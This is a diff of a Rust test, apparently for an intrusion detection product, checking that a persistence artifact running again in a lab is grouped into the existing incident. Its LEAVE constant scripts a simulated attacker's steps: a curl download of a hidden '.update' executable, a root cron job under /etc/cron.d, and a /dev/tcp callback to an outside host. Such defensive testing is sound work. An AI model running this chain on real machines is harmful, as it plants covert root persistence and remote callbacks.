@@ -330,27 +330,27 @@ fn what_was_left_behind_is_of_the_same_incident_when_it_runs_again() {
     let joined = || {
         let found = all(&site, &format!("/detections?incident={first}"));
         let why = found.iter().filter_map(|one| one["joined"].as_str());
-        why.filter(|why| why.contains("/usr/local/lib/.update")).map(str::to_owned).next()
+        why.filter(|why| why.contains("/opt/.update")).map(str::to_owned).next()
     };
     assert_eq!(joined(), None);
     let outside = site.lab.outside().addresses().ip4();
-    let mut cron = web.endpoint.command("/usr/local/lib/.update");
+    let mut cron = web.endpoint.command("/opt/.update");
     cron.env("OUTSIDE", outside.to_string()).env("CATCH", CATCH.to_string());
     cron.stdout(Stdio::null()).stderr(Stdio::null());
     let child = web.endpoint.spawn_command(cron).unwrap();
     child.wait(Duration::from_mins(1)).unwrap();
     assert!(attacker.has_heard("again"), "the connection was real");
     until("what ran again", || joined().is_some());
-    assert_eq!(incidents(&site).len(), 1);
+    // Told ahead of its file, it may have been an incident of its own for a moment: that is closed then, and names this one.
+    assert_eq!(all(&site, "/incidents?state=open,in_progress").len(), 1);
     println!("another tree joined: {}", joined().unwrap_or_default());
 }
 
 const LEAVE: &str = "\
-mkdir -p /usr/local/lib
-curl -s -o /usr/local/lib/.update http://$WEB/update
-chmod +x /usr/local/lib/.update
+curl -s -o /opt/.update http://$WEB/update
+chmod +x /opt/.update
 mkdir -p /etc/cron.d
-echo '* * * * * root /usr/local/lib/.update' > /etc/cron.d/.update
+echo '* * * * * root /opt/.update' > /etc/cron.d/.update
 bash -c \"exec 5<>/dev/tcp/$OUTSIDE/$CATCH; echo first >&5; exec 5>&-\"
 ";
 const LEFT: &str = "\
